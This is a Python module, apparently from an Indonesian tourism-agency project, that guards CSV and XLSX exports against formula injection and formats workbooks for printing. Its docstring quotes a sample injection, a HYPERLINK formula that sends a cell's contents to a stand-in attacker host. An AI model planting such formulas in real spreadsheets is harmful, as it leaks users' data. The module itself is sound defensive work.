"""Spreadsheet-safe cells: text from users is written as text, never as a formula.

Names, ids and notes come from agency files (and soon from browsers). A destination
named ``=HYPERLINK("http://evil.example/?d="&A1,"klik")`` must not become a live formula
when an officer opens an export in Excel or LibreOffice (CSV / formula injection, see the
OWASP page "CSV Injection"). Every CSV and XLSX writer of the project goes through this
module:

- CSV (:func:`csv_frame`, :func:`csv_text`, :func:`write_csv`): a text cell that starts with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return gets a leading ``'``, as OWASP recommends;
- XLSX (:func:`write_workbook` and :func:`write_xlsx`, the one formatter of the project's
  workbooks, built on :func:`excel_writer` and :func:`text_cells`): every cell holding a
  Python ``str`` is stored as a string cell (openpyxl would store text starting with ``=``
  as a formula), and text starting with one of those characters also carries
  ``quotePrefix``, so the spreadsheet keeps it as text even when the cell is edited.

Numbers are never touched: a numeric ``-5`` stays the number -5 in both formats.

The workbooks are also made to be printed and read at a meeting: A4 landscape, fit to the
page width, the header row repeated on every page, a title and the date in the page header,
bold filtered frozen headers, one number format per column and codes in words
(:mod:`geo.labels`).
"""

from __future__ import annotations

import datetime as dt
import os
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final, Literal

import numpy as np
import pandas as pd

from geo import labels
from geo.fmt import date_text

# First characters that make a spreadsheet read a cell as a formula (OWASP list).
FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")


def risky(value: object) -> bool:
    """True for text a spreadsheet could evaluate as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_cell(value: Any) -> Any:
    """One CSV cell made safe: risky text gets a leading ``'``; anything else unchanged."""
    return "'" + value if risky(value) else value


def csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and headers) are safe in a CSV file.

    Only object and string columns are looked at, and only their ``str`` values are
    changed, so numbers stay numbers.
    """
    out = pd.DataFrame(df).copy()
    for pos in range(out.shape[1]):
        s = out.iloc[:, pos]
        if not (pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)):
            continue
        values = np.asarray(s.astype(object))
        hit = np.fromiter((risky(v) for v in values), dtype=bool, count=len(values))
        if hit.any():
            values = values.copy()
            values[hit] = ["'" + v for v in values[hit]]
            out.isetitem(pos, values)
    out.columns = pd.Index([csv_cell(c) for c in out.columns])
    return out


def csv_text(df: pd.DataFrame, *, bom: bool = False) -> str:
    """``df`` as CSV text (no index) with safe cells; ``bom`` starts it with U+FEFF so that
    Excel opens UTF-8 correctly."""
    return ("\ufeff" if bom else "") + csv_frame(df).to_csv(index=False)


def write_csv(df: pd.DataFrame, path: str | os.PathLike[str]) -> None:
    """Write ``df`` as a UTF-8 CSV file (no index) with safe cells."""
    csv_frame(df).to_csv(Path(path), index=False, encoding="utf-8")


def text_cells(book: Any) -> None:
    """Store every text cell of an openpyxl workbook as a string, never as a formula.

    The workbook is written by this project only, so no cell is meant to be a formula.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str):
                    if cell.data_type != "s":
                        cell.data_type = "s"
                    if value.startswith(FORMULA_START):
                        cell.quotePrefix = True


@contextmanager
def excel_writer(path: str | os.PathLike[str], *,
                 mode: Literal["w", "a"] = "w") -> Iterator[pd.ExcelWriter]:
    """``pd.ExcelWriter`` (openpyxl) whose cells are made safe by :func:`text_cells` on exit."""
    with pd.ExcelWriter(path, engine="openpyxl", mode=mode) as xw:
        yield xw
        text_cells(xw.book)


ASSUMPTIONS_SHEET: Final = "Asumsi"
"""Name of the sheet every workbook of the project states its assumptions on."""

TEXT_FORMAT: Final = "@"
"""Excel's text format: a text column stays text when an officer edits a cell."""
COUNT_FORMAT: Final = "#,##0"
"""Whole numbers (counts, rupiah without a symbol): thousands grouped by Excel's locale."""
DECIMAL_FORMAT: Final = "#,##0.00"
"""Default for a column of fractional numbers no caller named."""

_SHEET_NAME_BAD: Final = str.maketrans({c: " " for c in "[]:*?/\\"})


def sheet_name(text: str, taken: Sequence[str] = ()) -> str:
    """A valid, unused Excel sheet name from ``text`` (at most 31 characters, none of
    ``[]:*?/\\``; a number is appended when the name is taken, case-insensitively)."""
    base = " ".join(text.translate(_SHEET_NAME_BAD).split()).strip("'") or "Lembar"
    used = {t.lower() for t in taken}
    # Excel refuses a name that starts or ends with an apostrophe
    name, k = base[:31].rstrip("'"), 2
    while name.lower() in used:
        suffix = f" ({k})"
        name, k = base[:31 - len(suffix)].rstrip("'") + suffix, k + 1
    return name


@dataclass(frozen=True)
class Sheet:
    """One sheet of a workbook for people (:func:`write_workbook`).

    Parameters
    ----------
    name
        Sheet name (at most 31 characters; see :func:`sheet_name`).
    table
        The rows, one column per field; written as they are, except ``codes`` columns
        (words instead of codes) and bool columns ("Ya"/"Tidak").
    headers
        Header per column name (Indonesian); a column not named keeps its name.
    number_formats
        Excel number format per column name (``"0.0"``, ``"#,##0"``, ``'"Rp" #,##0'``). Every
        cell of a column gets the same one; unnamed numeric columns get :data:`COUNT_FORMAT`
        (whole numbers) or :data:`DECIMAL_FORMAT`, text columns :data:`TEXT_FORMAT`.
    widths
        Width per column name; other columns are sized from their header and contents.
    codes
        Column name -> kind of code (:data:`geo.labels.KINDS`): the column shows words.
    title
        Printed in the page header (default: the sheet name).
    freeze
        Top-left cell that is not frozen (default ``"C2"``: header and the two first
        columns, usually id and name; ``"A2"`` for two columns or fewer).
    wrap
        Column names whose long text wraps in its cell (notes, actions).
    """

    name: str
    table: pd.DataFrame
    headers: Mapping[str, str] = field(default_factory=dict)
    number_formats: Mapping[str, str] = field(default_factory=dict)
    widths: Mapping[str, float] = field(default_factory=dict)
    codes: Mapping[str, str] = field(default_factory=dict)
    title: str | None = None
    freeze: str | None = None
    wrap: Sequence[str] = ()


def assumptions_sheet(assumptions: pd.DataFrame, *, title: str | None = None,
                      widths: Sequence[float] = (22, 34, 30, 100)) -> Sheet:
    """The 'Asumsi' sheet: ``assumptions`` as they are, the last column wrapped."""
    cols = [str(c) for c in assumptions.columns]
    return Sheet(ASSUMPTIONS_SHEET, assumptions, widths=dict(zip(cols, widths, strict=False)),
                 title=title or "Asumsi dan sumber", freeze="A2", wrap=cols[-1:])


def write_xlsx(path: str | os.PathLike[str], table: pd.DataFrame, assumptions: pd.DataFrame,
               *, sheet: str, headers: Sequence[str] | None = None,
               number_formats: Mapping[str, str] | None = None,
               widths: Mapping[str, float] | None = None,
               assumption_widths: Sequence[float] = (22, 34, 30, 100),
               codes: Mapping[str, str] | None = None, title: str | None = None,
               wrap: Sequence[str] = (), on: dt.date | None = None) -> None:
    """A workbook of one table and its "Asumsi" sheet (:func:`write_workbook`).

    Parameters
    ----------
    path
        The ``.xlsx`` file to write (callers write a temporary file, see
        :func:`geo.io.workspace.atomic_write`).
    table, assumptions
        The rows; ``assumptions`` is written as it is.
    sheet
        Name of the table's sheet.
    headers
        One header per column of ``table`` (Indonesian); default the column names.
    number_formats, widths, codes, wrap
        Per column name, as in :class:`Sheet`.
    assumption_widths
        Widths of the "Asumsi" sheet's columns.
    title
        The table's title in the printed page header (default ``sheet``).
    on
        Date printed in the page headers (default today).

    Raises
    ------
    ValueError
        When ``headers`` does not have one entry per column.
    """
    if headers is not None and len(headers) != len(table.columns):
        raise ValueError(f"{len(headers)} headers for {len(table.columns)} columns")
    names = dict(zip(map(str, table.columns), headers, strict=True)) if headers else {}
    write_workbook(path, [
        Sheet(sheet, table, headers=names, number_formats=number_formats or {},
              widths=widths or {}, codes=codes or {}, title=title, wrap=wrap),
        assumptions_sheet(assumptions, widths=assumption_widths),
    ], on=on)


def write_workbook(path: str | os.PathLike[str], sheets: Sequence[Sheet], *,
                   on: dt.date | None = None) -> None:
    """Write ``sheets`` as one workbook for people, in order.

    Every sheet is set up to print (A4 landscape, fit to the page width, the header row
    repeated on each page, its title and the date in the page header, page numbers in the
    footer) and to read (bold wrapped header, autofilter, frozen header, column widths from
    the contents, one number format per column, codes in words). Text is stored as text,
    never as a formula (:func:`excel_writer`).

    Parameters
    ----------
    path
        The ``.xlsx`` file (callers write a temporary file and move it into place).
    sheets
        The sheets; their names must be unique.
    on
        Date printed in the page headers (default today).
    """
    names = [s.name for s in sheets]
    if len({n.lower() for n in names}) != len(names):
        raise ValueError(f"duplicate sheet names: {names}")
    stamp = date_text(on or dt.date.today())
    with excel_writer(path) as xw:
        for spec in sheets:
            data = _display_frame(spec)
            header = [spec.headers.get(str(c), str(c)) for c in spec.table.columns]
            data.to_excel(xw, sheet_name=spec.name, index=False, header=header)
            _format_sheet(xw.sheets[spec.name], spec, data, header, stamp)


def _display_frame(spec: Sheet) -> pd.DataFrame:
    """The rows as people read them: codes in words, yes/no as "Ya"/"Tidak"."""
    data = pd.DataFrame(spec.table).copy()
    for pos, col in enumerate(data.columns):
        s = data.iloc[:, pos]
        kind = spec.codes.get(str(col))
        if kind is None and s.dtype == bool:
            kind = "yesno"
        if kind is not None:
            words = np.array(labels.labels(kind, s.tolist()), dtype=object)
            words[~s.notna().to_numpy()] = None  # an empty cell stays empty
            data.isetitem(pos, words)
    return data


def _column_format(spec: Sheet, col: str, values: pd.Series) -> str:
    """The one number format of a column: the caller's, else from what it holds."""
    if col in spec.number_formats:
        return spec.number_formats[col]
    kind = pd.api.types.infer_dtype(values, skipna=True)
    if kind == "integer":
        return COUNT_FORMAT
    if kind in ("floating", "decimal", "mixed-integer-float"):
        return DECIMAL_FORMAT
    if kind in ("string", "empty"):
        return TEXT_FORMAT
    return "General"


def _width(header: str, values: pd.Series, fmt: str) -> float:
    """A readable width: the longest word of the (wrapped) header, the 90th percentile of
    the cells' text, and room for a number in its format; between 8 and 50 characters."""
    words = max((len(w) for w in header.split()), default=4)
    if fmt == TEXT_FORMAT or values.dtype == object:
        lengths = values.dropna().astype(str).str.len()
        body = float(np.percentile(lengths, 90)) if len(lengths) else 0.0
    else:
        finite = pd.to_numeric(values, errors="coerce").abs().dropna()
        digits = len(f"{finite.max():,.0f}") if len(finite) else 1
        body = digits + (3 if "0.0" in fmt else 0) + (3 if "Rp" in fmt else 0)
    return float(min(50.0, max(8.0, words + 2, min(body, 50.0) + 2, len(header) / 3 + 2)))


def _header_text(text: str) -> str:
    # '&' starts a control code in Excel's page header language: '&&' prints one.
    return text.replace("&", "&&")


def _format_sheet(ws: Any, spec: Sheet, data: pd.DataFrame, header: list[str],
                  stamp: str) -> None:
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.properties import PageSetupProperties

    ncols, nrows = len(header), len(data)
    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="DDDDDD")
    for cell in ws[1]:
        cell.font = bold
        cell.fill = fill
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    wrap = set(spec.wrap)
    for k, col in enumerate(data.columns, start=1):
        name = str(col)
        letter = get_column_letter(k)
        fmt = _column_format(spec, name, data[col])
        ws.column_dimensions[letter].width = spec.widths.get(
            name, _width(header[k - 1], data[col], fmt))
        align = Alignment(wrap_text=True, vertical="top") if name in wrap else None
        for (cell,) in ws.iter_rows(min_row=2, max_row=nrows + 1, min_col=k, max_col=k):
            cell.number_format = fmt
            if align is not None:
                cell.alignment = align
    last = get_column_letter(max(ncols, 1))
    ws.auto_filter.ref = f"A1:{last}{nrows + 1}"
    ws.freeze_panes = spec.freeze or ("C2" if ncols > 2 else "A2")
    # Printing: A4 landscape, as wide as the page, as many pages long as it takes.
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    ws.print_title_rows = "1:1"
    ws.print_options.gridLines = True
    ws.page_margins.left = ws.page_margins.right = 0.4
    ws.page_margins.top = ws.page_margins.bottom = 0.6
    ws.oddHeader.left.text = _header_text(spec.title or spec.name)
    ws.oddHeader.left.font = "Calibri,Bold"
    ws.oddHeader.right.text = _header_text(stamp)
    ws.oddFooter.center.text = "Halaman &P dari &N"
    ws.oddFooter.left.text = "SIAP Wisata"
